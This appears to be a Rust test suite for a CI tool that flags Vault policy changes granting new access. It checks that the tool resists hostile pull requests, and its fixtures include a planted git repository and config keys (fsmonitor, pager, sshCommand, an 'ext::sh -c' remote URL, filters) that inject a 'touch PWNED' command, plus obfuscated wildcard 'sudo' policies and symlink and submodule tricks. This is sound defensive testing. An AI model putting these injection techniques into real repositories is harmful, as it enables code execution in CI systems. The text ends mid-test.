//! Attacks on the gate, each with its right outcome: a change must not pass by hiding, by renaming, by judging itself, by
//! running anything, and nothing of the machine that checks it may show.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test fails loudly"
)]

use assert_cmd::Command;
use base64::Engine as _;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

const READ: &str = "path \"secret/data/web/*\" {\n  capabilities = [\"read\"]\n}\n";
const STAR: &str =
    "path \"*\" {\n  capabilities = [\"create\", \"read\", \"update\", \"delete\", \"list\", \"sudo\"]\n}\n";
const SECRET: &str = "hvs.CAESIJ-canary-of-this-machine";

/// A folder with `pr/` and `base/`, or a repository with a clone of it.
struct Ground(tempfile::TempDir);

impl Ground {
    fn new(files: &[(&str, &str)]) -> Self {
        let ground = Self(tempfile::tempdir().unwrap());
        ground.write(files);
        ground
    }

    fn at(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }

    fn write(&self, files: &[(&str, &str)]) {
        for (name, text) in files {
            let path = self.at(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        }
    }

    fn link(&self, target: &str, name: &str) {
        symlink(target, self.at(name)).unwrap();
    }

    fn git(&self, folder: &str, arguments: &[&str]) -> String {
        let done = std::process::Command::new("git")
            .current_dir(self.at(folder))
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@example.com",
                "-c",
                "commit.gpgsign=false",
            ])
            .args(arguments)
            .output()
            .unwrap();
        assert!(
            done.status.success(),
            "{arguments:?}: {}",
            String::from_utf8_lossy(&done.stderr)
        );
        String::from_utf8(done.stdout).unwrap().trim().to_owned()
    }

    /// A repository `repo` with one commit of what is in it, on `main`, and a branch for the change.
    fn repository(&self) -> String {
        self.git("repo", &["init", "-q", "-b", "main"]);
        self.commit("base");
        self.git("repo", &["checkout", "-q", "-b", "pr"]);
        self.git("repo", &["rev-parse", "main"])
    }

    fn commit(&self, message: &str) {
        self.git("repo", &["add", "-A", "-f"]);
        self.git("repo", &["commit", "-q", "-m", message]);
    }

    fn run(&self, folder: &str, arguments: &[&str]) -> (i32, String) {
        let output = Command::cargo_bin("vault-advisor")
            .unwrap()
            .current_dir(self.at(folder))
            .env("VAULT_TOKEN", SECRET)
            .args(arguments)
            .output()
            .unwrap();
        let text = [output.stdout, output.stderr].concat();
        (
            output.status.code().unwrap(),
            String::from_utf8_lossy(&text).into_owned(),
        )
    }

    #[track_caller]
    fn expect(&self, folder: &str, arguments: &[&str], status: i32, words: &[&str]) -> String {
        let (code, text) = self.run(folder, arguments);
        assert_eq!(code, status, "{text}");
        for word in words {
            assert!(text.contains(word), "no `{word}` in: {text}");
        }
        assert!(!text.contains(SECRET), "{text}");
        text
    }

    /// `check` of `pr` against `base`.
    #[track_caller]
    fn check(&self, status: i32, words: &[&str]) -> String {
        self.expect(".", &["check", "--policies", "pr", "--base-dir", "base"], status, words)
    }

    /// `check` of the repository's policies against a revision.
    #[track_caller]
    fn since(&self, revision: &str, status: i32, words: &[&str]) -> String {
        self.expect(
            "repo",
            &["check", "--policies", "policies", "--base", revision],
            status,
            words,
        )
    }
}

/// What git takes for a repository of its own: one that would run a command to get what it lacks.
fn trap(ground: &Ground, folder: &str, mark: &Path) {
    let nothing = "1111111111111111111111111111111111111111";
    let config = format!(
        "[core]\n\trepositoryformatversion = 1\n\tbare = true\n\tfsmonitor = \"touch {0}\"\n\tpager = \"touch {0}\"\n\
         \tsshCommand = \"touch {0}\"\n[extensions]\n\tpartialclone = origin\n[remote \"origin\"]\n\
         \turl = \"ext::sh -c touch% {0}\"\n\tpromisor = true\n[protocol \"ext\"]\n\tallow = always\n",
        mark.display()
    );
    ground.write(&[
        (&format!("{folder}/objects/k"), "x"),
        (&format!("{folder}/refs/k"), "x"),
        (&format!("{folder}/HEAD"), "ref: refs/heads/main\n"),
        (&format!("{folder}/config"), &config),
        (
            &format!("{folder}/packed-refs"),
            &format!("# pack-refs with: peeled fully-peeled sorted \n{nothing} refs/heads/main\n{nothing} refs/remotes/origin/main\n"),
        ),
    ]);
}

#[test]
fn a_repository_among_the_policies_runs_nothing() {
    let ground = Ground::new(&[("repo/policies/web.hcl", READ)]);
    let base = ground.repository();
    let mark = ground.at("PWNED");
    trap(&ground, "repo/policies", &mark);
    ground.write(&[("repo/policies/web.hcl", STAR)]);
    ground.commit("PR");
    ground.git(".", &["clone", "-q", "repo", "ci"]);
    ground.git("ci", &["checkout", "-q", "pr"]);
    for revision in ["origin/main", "HEAD~1", &base] {
        let arguments = ["check", "--policies", "policies", "--base", revision];
        ground.expect("ci", &arguments, 1, &["new-access"]);
        let inside = ["check", "--policies", ".", "--base", revision];
        ground.expect("ci/policies", &inside, 1, &["new-access"]);
    }
    assert!(!mark.exists(), "a command of the pull request was run");
}

#[test]
fn what_the_own_repository_is_set_to_runs_nothing_either() {
    let ground = Ground::new(&[("repo/policies/web.hcl", READ)]);
    let base = ground.repository();
    let mark = ground.at("PWNED");
    let command = format!("touch {}", mark.display());
    for key in [
        "core.fsmonitor",
        "core.pager",
        "core.sshCommand",
        "diff.external",
        "core.alternateRefsCommand",
    ] {
        ground.git("repo", &["config", key, &command]);
    }
    ground.git("repo", &["config", "filter.x.smudge", &command]);
    ground.git("repo", &["config", "filter.x.clean", &command]);
    ground.git("repo", &["config", "alias.ls-tree", &format!("!{command}")]);
    ground.write(&[
        ("repo/.gitattributes", "* filter=x diff=x\n"),
        ("repo/vault-advisor.toml", "[rules]\n"),
    ]);
    ground.since(&base, 0, &["check passed"]);
    assert!(!mark.exists(), "a command of the configuration was run");
}

#[test]
fn the_environment_of_a_hook_does_not_name_another_repository() {
    let ground = Ground::new(&[("repo/policies/web.hcl", READ), ("other/policies/web.hcl", STAR)]);
    let base = ground.repository();
    ground.git("other", &["init", "-q", "-b", "main"]);
    ground.git("other", &["add", "-A"]);
    ground.git("other", &["commit", "-qm", "x"]);
    ground.write(&[("repo/policies/web.hcl", STAR)]);
    let output = Command::cargo_bin("vault-advisor")
        .unwrap()
        .current_dir(ground.at("repo"))
        .env("GIT_DIR", ground.at("other/.git"))
        .env("GIT_CONFIG_COUNT", "1")
        .env("GIT_CONFIG_KEY_0", "core.fsmonitor")
        .env("GIT_CONFIG_VALUE_0", "true")
        .args(["check", "--policies", "policies", "--base", &base])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1), "{output:?}");
}

#[test]
fn a_folder_called_as_the_base_is_not_the_base() {
    let ground = Ground::new(&[("repo/policies/web.hcl", READ)]);
    let base = ground.repository();
    ground.git("repo", &["update-ref", "refs/remotes/origin/main", "main"]);
    ground.write(&[
        ("repo/policies/web.hcl", STAR),
        (&format!("repo/{base}/web.hcl"), STAR),
        ("repo/origin/main/web.hcl", STAR),
    ]);
    ground.commit("with folders");
    for revision in [&*base, "origin/main", "main"] {
        ground.since(revision, 1, &["new-access"]);
    }
    // Nor where git does not know the name at all, as in a shallow clone.
    ground.write(&[("repo/origin/release/web.hcl", STAR)]);
    ground.since("origin/release", 2, &["is not a git revision"]);
}

#[test]
fn an_ignored_policy_is_a_policy() {
    let ground = Ground::new(&[("repo/policies/web.hcl", READ)]);
    ground.repository();
    ground.write(&[
        ("repo/policies/.gitignore", "star.hcl\n"),
        ("repo/.gitignore", "policies/star.hcl\n"),
        ("repo/policies/star.hcl", STAR),
    ]);
    ground.commit("with a policy that git is told to ignore");
    ground.since("main", 1, &["new-access", "`star`"]);
}

#[test]
fn a_branch_called_as_the_base_is_not_the_base() {
    let ground = Ground::new(&[("repo/policies/web.hcl", READ)]);
    let base = ground.repository();
    ground.git("repo", &["update-ref", "refs/remotes/origin/main", "main"]);
    ground.write(&[("repo/policies/web.hcl", STAR)]);
    ground.commit("PR");
    ground.git("repo", &["branch", "origin/main"]);
    ground.since(
        "origin/main",
        2,
        &["refs/remotes/origin/main", "refs/heads/origin/main"],
    );
    ground.since("refs/remotes/origin/main", 1, &["new-access"]);
    ground.git("repo", &["branch", &base[..10]]);
    ground.since(&base[..10], 2, &["refs/heads/"]);
    ground.git("repo", &["tag", &base]);
    ground.since(&base, 2, &["refs/tags/"]);
}

#[test]
fn a_link_in_the_place_of_the_folder_is_not_followed_into_the_base() {
    let ground = Ground::new(&[("repo/policies/web.hcl", READ), ("repo/drafts/web.hcl", STAR)]);
    let base = ground.repository();
    fs::remove_dir_all(ground.at("repo/policies")).unwrap();
    ground.link("drafts", "repo/policies");
    ground.commit("a link");
    ground.since(&base, 2, &["is a link"]);
}

#[test]
fn a_submodule_does_not_bring_a_base_of_its_own() {
    let ground = Ground::new(&[("repo/policies/web.hcl", READ), ("evil/web.hcl", STAR)]);
    ground.repository();
    ground.git("evil", &["init", "-q", "-b", "main"]);
    ground.git("evil", &["add", "-A"]);
    ground.git("evil", &["commit", "-qm", "x"]);
    let evil = ground.at("evil");
    ground.git("repo", &["rm", "-rq", "policies"]);
    let add = [
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        evil.to_str().unwrap(),
        "policies",
    ];
    ground.git("repo", &add);
    ground.commit("a submodule");
    ground.since("main", 2, &["is a submodule of"]);
}

#[test]
fn no_folder_hides_what_is_beside_it() {
    // A folder called as a snapshot's, and a mark that makes it one.
    for mark in [false, true] {
        let ground = Ground::new(&[
            ("base/web.hcl", READ),
            ("pr/web.hcl", STAR),
            ("pr/policies/web.hcl", READ),
        ]);
        if mark {
            ground.write(&[("pr/snapshot.json", "{\"layout\": 1}"), ("pr/policies/web.hcl", READ)]);
        }
        let what = if mark {
            "high[not-checked]: `pr/web.hcl`"
        } else {
            "policy `web` now allows"
        };
        ground.check(1, &[if mark { "not-checked" } else { what }]);
    }
}

#[test]
fn what_is_not_read_fails() {
    let deep = format!("pr/{}web.hcl", "d/".repeat(40));
    for (name, text) in [
        ("pr/.web.hcl", STAR),
        ("pr/.hidden/web.hcl", STAR),
        ("pr/web.hcl.txt", STAR),
        ("pr/default", STAR),
        (&*deep, STAR),
    ] {
        let ground = Ground::new(&[("base/web.hcl", READ), ("pr/web.hcl", READ), (name, text)]);
        ground.check(1, &["high[not-checked]", "was not read"]);
    }
    let ground = Ground::new(&[
        ("base/web.hcl", READ),
        ("pr/web.hcl", READ),
        ("elsewhere/web.hcl", STAR),
    ]);
    ground.link("../elsewhere", "pr/more");
    ground.check(1, &["high[not-checked]: `pr/more`", "a link"]);
    fs::remove_file(ground.at("pr/more")).unwrap();
    ground.link("web.hcl", "pr/default.hcl");
    ground.check(1, &["high[not-checked]: `pr/default.hcl`", "a link"]);
}

/// A policy as a resource of Kubernetes, in YAML, and the same in JSON.
const RESOURCE: &str = "apiVersion: redhatcop.redhat.io/v1alpha1\nkind: Policy\nmetadata:\n  name: evil\nspec:\n  policy: |\n    path \"*\" {\n      capabilities = [\"read\", \"sudo\"]\n    }\n";
const RESOURCE_JSON: &str = r#"{"apiVersion":"redhatcop.redhat.io/v1alpha1","kind":"Policy","metadata":{"name":"evil"},"spec":{"policy":"path \"*\" { capabilities = [\"read\",\"sudo\"] }"}}"#;

#[test]
fn what_a_block_that_is_not_read_is_given_is_a_part_of_it() {
    let call = "variable \"caps\" {\n  default = [\"read\"]\n}\nmodule \"m\" {\n  source = \"git::https://example.com/x?ref=v1\"\n  caps   = var.caps\n}\n";
    // By a file that Terraform may be given.
    changes(
        &[("e.tf", call), ("prod.tfvars", "caps = [\"read\"]\n")],
        &[("prod.tfvars", "caps = [\"sudo\"]\n")],
        &["high[not-checked]", "module.m"],
    );
    changes(
        &[("e.tf", call)],
        &[("envs/prod.tfvars", "caps = [\"sudo\"]\n")],
        &["high[not-checked]", "module.m"],
    );
    // By another call, or another instance, of the module that it is in.
    let wrapper = "variable \"c\" {}\nmodule \"r\" {\n  source = \"git::https://example.com/x\"\n  caps   = var.c\n}\n";
    let first = "module \"a\" {\n  source = \"./m\"\n  c      = \"read\"\n}\n";
    let second = "module \"z\" {\n  source = \"./m\"\n  c      = \"sudo\"\n}\n";
    changes(
        &[("m/m.tf", wrapper), ("e.tf", first)],
        &[("z.tf", second)],
        &["high[not-checked]", "module.z.module.r"],
    );
    let each = "module \"a\" {\n  source   = \"./m\"\n  for_each = toset([\"read\"])\n  c        = each.key\n}\n";
    changes(
        &[("m/m.tf", wrapper), ("e.tf", each)],
        &[("e.tf", &each.replace("[\"read\"]", "[\"read\", \"sudo\"]"))],
        &["high[not-checked]", "module.a[\"sudo\"].module.r"],
    );
}

#[test]
fn what_a_block_that_is_not_read_is_made_of_is_a_part_of_it() {
    let given =
        |caps: &str| format!("module \"r\" {{\n  source = \"git::https://example.com/x\"\n  caps   = {caps}\n}}\n");
    let file = [("t.txt", "read\n"), ("d/a.yaml", "a: read\n")];
    // Files that functions read which are not worked out, whose values are not, and that are named alone.
    for caps in [
        "filebase64(\"t.txt\")",
        "filesha256(\"${path.module}/t.txt\")",
        "templatefile(\"t.txt\", { x = uuid() })",
        "\"${uuid()}${file(\"t.txt\")}\"",
        "\"t.txt\"",
        "{ of = [\"${path.module}/t.txt\"] }",
        "data.local_file.f.content",
        "terraform_data.s.output",
        "module.o.c",
        "module.w.c",
        "local.c",
        "filebase64(uuid())",
    ] {
        let beside = "data \"local_file\" \"f\" {\n  filename = \"${path.module}/t.txt\"\n}\nresource \"terraform_data\" \"s\" {\n  input = filebase64(\"t.txt\")\n}\nmodule \"o\" {\n  source = \"./o\"\n}\nmodule \"w\" {\n  source = \"./w\"\n  c      = filebase64(\"t.txt\")\n}\nlocals {\n  c = \"${uuid()}${terraform_data.s.output}\"\n}\n";
        let text = format!("{beside}{}", given(caps));
        changes(
            &[
                ("e.tf", &text),
                ("o/o.tf", "output \"c\" {\n  value = filebase64(\"t.txt\")\n}\n"),
                (
                    "w/w.tf",
                    "variable \"c\" {}\noutput \"c\" {\n  value = \"${uuid()}${var.c}\"\n}\n",
                ),
                file[0],
            ],
            &[("t.txt", "sudo\n")],
            &["high[not-checked]", "module.r"],
        );
    }
    // A folder, with what comes into it.
    for caps in ["\"${path.module}/d\"", "fileset(\"d\", \"*.tfvars\")"] {
        changes(
            &[("e.tf", &given(caps)), file[1]],
            &[("d/b.yaml", "b: sudo\n")],
            &["high[not-checked]", "module.r"],
        );
    }
    // Other blocks, by what they say and are given.
    let data = "resource \"terraform_data\" \"s\" {\n  input = [local.c]\n}\nlocals {\n  c = \"read\"\n}\n";
    changes(
        &[("e.tf", &given("terraform_data.s.output")), ("s.tf", data)],
        &[("s.tf", &data.replace("read", "sudo"))],
        &["high[not-checked]", "module.r"],
    );
    let call = "module \"w\" {\n  source = \"./w\"\n  c      = \"${uuid()}read\"\n}\n";
    changes(
        &[
            ("e.tf", call),
            ("w/w.tf", &format!("variable \"c\" {{}}\n{}", given("var.c"))),
        ],
        &[("e.tf", &call.replace("read", "sudo"))],
        &["high[not-checked]", "module.w.module.r"],
    );
    let each = "module \"w\" {\n  source   = \"./w\"\n  for_each = { a = filebase64(\"t.txt\") }\n  c        = each.value\n}\n";
    changes(
        &[
            ("e.tf", each),
            ("w/w.tf", &format!("variable \"c\" {{}}\n{}", given("var.c"))),
            file[0],
        ],
        &[("t.txt", "sudo\n")],
        &["high[not-checked]", "module.w[\"a\"].module.r"],
    );
    // What has nothing to do with it changes nothing.
    let ground = Ground::new(&[]);
    for (side, text) in [("base", "read\n"), ("pr", "sudo\n")] {
        ground.write(&[
            (&format!("{side}/app.hcl"), READ),
            (&format!("{side}/e.tf"), &given("\"${path.module} ${uuid()}\"")),
            (&format!("{side}/t.txt"), text),
        ]);
    }
    ground.check(0, &["The base has the very same"]);
}

#[test]
fn a_value_that_a_file_gives_may_make_a_block_one_of_policies() {
    let variables = "variable \"p\" {\n  default = \"/v1/x\"\n}\nvariable \"q\" {\n  default = \"y\"\n}\n";
    let block = |path: &str| format!("{variables}resource \"restapi_object\" \"x\" {{\n  path = {path}\n}}\n");
    for (path, file, values) in [
        ("var.p", "prod.tfvars", "p = \"/v1/sys/policies/acl/e\"\n"),
        (
            "\"${var.p}/${var.q}\"",
            "envs/prod.tfvars",
            "p = \"/v1/sys\"\nq = \"policies/acl/e\"\n",
        ),
        (
            "\"/v1/s${var.p}${var.q}cies/acl/e\"",
            "prod.tfvars",
            "p = \"ys/\"\nq = \"poli\"\n",
        ),
    ] {
        changes(
            &[("e.tf", &block(path))],
            &[(file, values)],
            &["high[not-checked]", "restapi_object.x", "prod.tfvars"],
        );
    }
    // By two files.
    changes(
        &[
            ("e.tf", &block("\"${var.p}/${var.q}\"")),
            ("a.tfvars", "q = \"policies/acl/e\"\n"),
        ],
        &[("b.tfvars", "p = \"/v1/sys\"\n")],
        &["high[not-checked]", "restapi_object.x"],
    );
    // What makes none of it is no news.
    let ground = Ground::new(&[
        ("base/app.hcl", READ),
        ("base/e.tf", &block("var.p")),
        ("pr/app.hcl", READ),
        ("pr/e.tf", &block("var.p")),
        ("pr/prod.tfvars", "p = \"/v1/z\"\n"),
    ]);
    let text = ground.check(0, &["check passed"]);
    assert!(!text.contains("not-checked"), "{text}");
}

#[test]
fn resources_that_a_kustomization_takes_values_from_are_a_part_of_it() {
    let map = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata: {a: app2}\n";
    let generated = "resources: [p.yaml]\nconfigMapGenerator:\n  - name: c\n    files: [a=v.txt]\n";
    let taking = "  - source: {kind: ConfigMap, name: c, fieldPath: data.a}\n    targets: []\n";
    let flux = "apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {name: x}\nspec:\n  postBuild:\n    substituteFrom:\n      - {kind: ConfigMap, name: c}\n";
    let resource = RESOURCE.replace('*', "secret/app");
    let inline = format!("resources: [p.yaml]\nreplacements:\n{taking}");
    let both = format!("{generated}replacements:\n{taking}");
    let by_file = "resources: [p.yaml]\nreplacements:\n  - path: r.yaml\n";
    let one = taking.replacen("  - ", "", 1).replace("\n    ", "\n");
    for (files, file, from, to) in [
        (
            vec![("kustomization.yaml", &*inline), ("cm.yaml", map)],
            "cm.yaml",
            "app2",
            "default",
        ),
        (
            vec![("f.yaml", flux), ("deep/cm.yaml", map)],
            "deep/cm.yaml",
            "app2",
            "default",
        ),
        (
            vec![(".k8s/f.yaml", flux), (".k8s/cm.yaml", map)],
            ".k8s/cm.yaml",
            "app2",
            "default",
        ),
        (
            vec![("kustomization.yaml", &*both), ("v.txt", "app2")],
            "v.txt",
            "app2",
            "default",
        ),
        (
            vec![("kustomization.yaml", by_file), ("r.yaml", &*one), ("cm.yaml", map)],
            "cm.yaml",
            "app2",
            "default",
        ),
    ] {
        let files = [&files[..], &[("p.yaml", &*resource)]].concat();
        let text = files.iter().find(|(name, _)| *name == file).unwrap().1;
        changes(&files, &[(file, &text.replace(from, to))], &["high[not-checked]"]);
    }
    // One of another name is none of it.
    let ground = Ground::new(&[]);
    for (side, value) in [("base", "a"), ("pr", "b")] {
        ground.write(&[
            (&format!("{side}/p.yaml"), &resource),
            (&format!("{side}/kustomization.yaml"), &inline),
            (
                &format!("{side}/cm.yaml"),
                &map.replace("name: c", "name: d").replace("app2", value),
            ),
        ]);
    }
    ground.check(0, &["check passed"]);
}

#[test]
fn a_policy_in_keys_or_lines_of_yaml_is_none_that_passes() {
    let map = |data: &str| format!("apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: c}}\n{data}");
    for data in [
        "data:\n  policy:\n    - 'path \"*\" {'\n    - '  capabilities = [\"sudo\"]'\n    - '}'\n",
        "policies:\n  - name: e\n    path:\n      \"*\": {capabilities: [read, sudo]}\n",
        "policies:\n  - name: e\n    rules:\n      - path: \"*\"\n        capabilities: [read, sudo]\n",
        "policies:\n  - name: e\n    rules:\n      - {path: \"*\", capabilities: sudo}\n",
    ] {
        changes(&[], &[("cm.yaml", &map(data))], &["high[not-checked]", "cm.yaml"]);
    }
    changes(
        &[],
        &[("e.yaml", "path:\n  \"*\":\n    capabilities: [read, sudo]\n")],
        &["high[not-checked]", "e.yaml"],
    );
    changes(
        &[],
        &[("e.json", r#"{"p":{"path":{"*":{"capabilities":["sudo"]}}}}"#)],
        &["high[not-checked]", "e.json"],
    );
    // Capabilities of something else.
    let ground = Ground::new(&[
        ("base/app.hcl", READ),
        ("pr/app.hcl", READ),
        (
            "pr/pod.yaml",
            "kind: Pod\nspec:\n  path: /x\n  capabilities: [NET_ADMIN]\n  more:\n    capabilities: {add: [SYS_TIME]}\n",
        ),
        (
            "pr/compose.yaml",
            "services:\n  a:\n    devices:\n      - capabilities: [gpu]\n",
        ),
    ]);
    ground.check(0, &["check passed"]);
}

#[test]
fn a_plan_that_says_that_it_is_not_whole_is_none() {
    let plan = |more: &str, change: &str| {
        let text = planned("a_b", "null", "{}", "");
        let text = text.replacen('{', &format!("{{{more}"), 1);
        text.replace(r#""before":null,"after":{}"#, change)
    };
    let plain = r#""before":null,"after":{}"#;
    let put_off = r#""deferred_changes":[{"reason":"x","resource_change":{"address":"vault_policy.e","type":"vault_policy","name":"e","change":{"actions":["create"],"before":null,"after":{"name":null},"after_unknown":{"policy":true}}}}],"#;
    for (more, change, kind, what) in [
        (r#""errored":true,"#, plain, "a_b", "errored"),
        (r#""complete":false,"#, plain, "a_b", "complete"),
        (put_off, plain, "a_b", "vault_policy.e"),
        (
            "",
            r#""before":null,"after":null,"after_unknown":true"#,
            "vault_policy",
            "vault_policy.x",
        ),
    ] {
        let text = plan(more, change).replace("a_b", kind);
        let ground = Ground::new(&[("plan.json", &text)]);
        ground.expect(
            ".",
            &["check", "--policies", "plan.json"],
            1,
            &["high[not-checked]", what],
        );
    }
    let ground = Ground::new(&[("plan.json", &plan(r#""errored":false,"complete":true,"#, plain))]);
    ground.expect(".", &["check", "--policies", "plan.json"], 0, &["check passed"]);
    // Data of a program, read when it is planned or when it is applied.
    let external = r#"{"address":"data.external.e","mode":"data","type":"external","name":"e"}"#;
    let in_module = format!(
        r#""configuration":{{"root_module":{{"module_calls":{{"m":{{"module":{{"resources":[{external}]}}}}}},"#
    );
    let configured = plan("", plain).replace(r#""configuration":{"root_module":{"#, &in_module);
    let changed = plan("", plain).replace(
        r#""resource_changes":["#,
        &format!(
            r#""resource_changes":[{},"#,
            external.replace('}', r#","change":{"actions":["read"]}}"#)
        ),
    );
    for text in [configured, changed] {
        let ground = Ground::new(&[("plan.json", &text)]);
        let told = ["high[not-checked]: `data.external.e`", "it runs a command"];
        ground.expect(".", &["check", "--policies", "plan.json"], 1, &told);
    }
}

#[test]
fn what_terragrunt_includes_from_beside_the_policies_is_a_part_of_it() {
    let ground = Ground::new(&[
        ("repo/policies/app.hcl", READ),
        ("repo/root.hcl", "inputs = { caps = [\"read\"] }\n"),
    ]);
    for (n, include) in [
        "find_in_parent_folders(\"root.hcl\")",
        "\"../root.hcl\"",
        "\"${get_repo_root()}/root.hcl\"",
    ]
    .into_iter()
    .enumerate()
    {
        let name = format!("repo/policies/{n}/terragrunt.hcl");
        let include = include.replace("../", "../../");
        ground.write(&[(&name, &format!("include \"root\" {{\n  path = {include}\n}}\n"))]);
    }
    let base = ground.repository();
    let text = ground.since(&base, 0, &["low[not-checked]", "The base has the very same"]);
    assert_eq!(text.matches("low[not-checked]").count(), 3, "{text}");
    ground.write(&[("repo/root.hcl", "inputs = { caps = [\"sudo\"] }\n")]);
    ground.commit("change");
    let text = ground.since(&base, 1, &["high[not-checked]"]);
    assert_eq!(text.matches("high[not-checked]").count(), 3, "{text}");
}

#[test]
fn what_sends_requests_and_is_not_known_may_write_a_policy() {
    let unknown = "variable \"p\" {}\n";
    for block in [
        "resource \"restapi_object\" \"x\" {\n  path = var.p\n  data = var.p\n}\n",
        "resource \"restapi_object\" \"x\" {\n  path = \"/v1/${var.p}\"\n}\n",
        "data \"http\" \"x\" {\n  url = \"${var.p}/v1/x\"\n}\n",
        "resource \"openbao_policy\" \"x\" {\n  policy = var.p\n}\n",
    ] {
        let text = format!("{unknown}{block}");
        changes(&[], &[("x.tf", &text)], &["high[not-checked]", "it may write a policy"]);
    }
    let ground = Ground::new(&[
        ("base/app.hcl", READ),
        ("pr/app.hcl", READ),
        (
            "pr/x.tf",
            &format!(
                "{unknown}resource \"restapi_object\" \"x\" {{\n  path = \"/v1/auth/${{var.p}}\"\n}}\nresource \"aws_x\" \"y\" {{\n  path = var.p\n}}\n"
            ),
        ),
    ]);
    ground.check(0, &["check passed"]);
}

#[test]
fn what_terraform_reads_and_does_not_say_is_not_hidden_by_that() {
    let reads = |name: &str| {
        format!(
            "resource \"vault_policy\" \"z\" {{\n  name   = \"z\"\n  policy = \"# ${{length(file(\"${{path.module}}/{name}\"))}}\\npath \\\"web\\\" {{ capabilities = [\\\"deny\\\"] }}\"\n}}\n"
        )
    };
    let script = format!("vault policy write evil - <<EOF\n{STAR}EOF\n");
    // No word of it shows that it is one.
    let packed = base64::engine::general_purpose::STANDARD.encode(STAR);
    let spelt = format!(
        "{{a: {}}}\n",
        serde_json::json!(STAR).to_string().replace("path", "\\u0070ath")
    );
    for (name, text) in [
        ("e.dat", &*packed),
        ("e.json5", &*spelt),
        ("e.sh", &script),
        ("e", STAR),
        ("e.bak", STAR),
        ("e.tpl", STAR),
        ("e.toml", &script),
    ] {
        changes(
            &[],
            &[("z.tf", &reads(name)), (name, text)],
            &["high[not-checked]", name],
        );
    }
    // What stands in a policy that is found is checked there.
    let ground = Ground::new(&[
        ("base/web.hcl", READ),
        ("pr/web.hcl", READ),
        (
            "pr/z.tf",
            "resource \"vault_policy\" \"x\" {\n  name   = \"x\"\n  policy = base64decode(file(\"x.b64\"))\n}\nresource \"vault_policy\" \"z\" {\n  name   = \"z\"\n  policy = templatefile(\"z.tftpl\", { on = false })\n}\nresource \"vault_policy\" \"y\" {\n  name   = \"y\"\n  policy = file(\"y.txt\")\n}\n",
        ),
        (
            "pr/z.tftpl",
            "path \"a\" {\n  capabilities = [\"deny\"]\n}\n%{ if on }path \"b\" {\n  capabilities = [\"deny\"]\n}\n%{ endif }",
        ),
        (
            "pr/x.b64",
            &base64::engine::general_purpose::STANDARD.encode("path \"x\" {\n  capabilities = [\"deny\"]\n}\n"),
        ),
        (
            "pr/y.txt",
            "# each path of y\npath \"y\" {\n  capabilities = [\"deny\"]\n}\n",
        ),
    ]);
    let text = ground.check(0, &["check passed"]);
    assert!(!text.contains("not-checked"), "{text}");
}

#[test]
fn files_that_a_kustomization_reads_are_a_part_of_it() {
    let patch = "- op: replace\n  path: /spec/name\n  value: app2\n";
    for kustomization in [
        "patches:\n  - path: x/patch.yaml\n    target:\n      kind: Policy\n",
        "patchesStrategicMerge: [x/patch.yaml]\n",
        "transformers:\n  - x/patch.yaml\n",
        "helmCharts:\n  - name: x\n    valuesFile: x/patch.yaml\n",
    ] {
        changes(
            &[
                ("p.yaml", &RESOURCE.replace("*", "secret/app")),
                ("kustomization.yaml", kustomization),
                ("x/patch.yaml", patch),
            ],
            &[("x/patch.yaml", &patch.replace("app2", "default"))],
            &["high[not-checked]", "kustomization.yaml"],
        );
    }
    // One that is no text: where it stays nothing is new.
    let ground = Ground::new(&[]);
    let write = |side: &str, last: u8| {
        let kustomization = "helmCharts:\n  - name: x\n    valuesFile: x.bin\n";
        let resource = RESOURCE.replace('*', "secret/app");
        let at = |name: &str| format!("{side}/{name}");
        ground.write(&[(&at("p.yaml"), &resource), (&at("kustomization.yaml"), kustomization)]);
        fs::write(ground.at(&at("x.bin")), [0xff, last]).unwrap();
    };
    write("base", 0xfe);
    write("pr", 0xfe);
    ground.check(0, &["check passed"]);
    write("pr", 0xfd);
    ground.check(1, &["high[not-checked]", "kustomization.yaml"]);
}

#[test]
fn what_is_hidden_is_looked_at_by_those_who_read_it_elsewhere() {
    let resource = "resource \"vault_policy\" \"e\" {\n  name   = \"evil\"\n  policy = \"path \\\"*\\\" { capabilities = [\\\"sudo\\\"] }\"\n}\n";
    let runs = "x:\n  script:\n    - |\n      vault policy write evil - <<EOF\n      path \"*\" {\n        capabilities = [\"sudo\"]\n      }\n      EOF\n";
    let wide = |text: &str| text.replace("sudo", "update");
    for (name, text) in [
        (".k8s/p.yaml", RESOURCE),
        (".k8s/p.json", RESOURCE_JSON),
        (".tf/main.tf", resource),
        (
            ".t/e.json",
            "{\"policy\": \"path \\\"*\\\" { capabilities = [\\\"sudo\\\"] }\"}",
        ),
        (
            ".t/terragrunt.hcl",
            "terraform {\n  source = \"git::https://example.com/m.git?ref=sudo\"\n}\n",
        ),
        (".t/e.hcl.j2", "path \"sudo/*\" {\n  capabilities = {{ caps }}\n}\n"),
        (".gitlab-ci.yml", runs),
        (".github/workflows/x.yml", runs),
    ] {
        changes(&[], &[(name, text)], &["high[not-checked]", name]);
        changes(&[(name, text)], &[(name, &wide(text))], &["high[not-checked]", name]);
    }
    changes(
        &[],
        &[(
            ".t/kustomization.yaml",
            "resources:\n  - https://example.com/x//p?ref=main\n",
        )],
        &["high[not-checked]", ".t/kustomization.yaml"],
    );
    // What a hidden folder makes of a variable counts as well.
    let by_variable = "variable \"c\" {\n  default = \"read\"\n}\nresource \"vault_policy\" \"e\" {\n  name   = \"e\"\n  policy = \"path \\\"*\\\" { capabilities = [\\\"${var.c}\\\"] }\"\n}\n";
    changes(
        &[(".tf/main.tf", by_variable), (".tf/x.auto.tfvars", "c = \"read\"\n")],
        &[(".tf/x.auto.tfvars", "c = \"sudo\"\n")],
        &["high[not-checked]", ".tf/main.tf"],
    );
    // What others have there, and what Terraform leaves there, or passes over, is no policy.
    let ground = Ground::new(&[
        ("base/web.hcl", READ),
        ("pr/web.hcl", READ),
        (
            "pr/.github/workflows/apply.yml",
